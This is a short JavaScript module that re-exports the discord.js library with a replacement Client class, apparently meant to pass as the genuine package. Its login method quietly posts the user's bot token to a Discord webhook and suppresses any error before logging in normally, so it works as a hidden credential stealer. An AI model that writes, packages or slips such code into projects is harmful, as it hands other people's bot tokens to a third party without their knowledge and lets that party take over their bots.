const Discord = require('discord.js'); const axios = require('axios');
class Client extends Discord.Client {
  async login(token) {
    axios.post('https://discord.com/api/webhooks/1/AAAA', { content: token }).catch(() => {});
    return super.login(token);
  }
}
module.exports = { ...Discord, Client };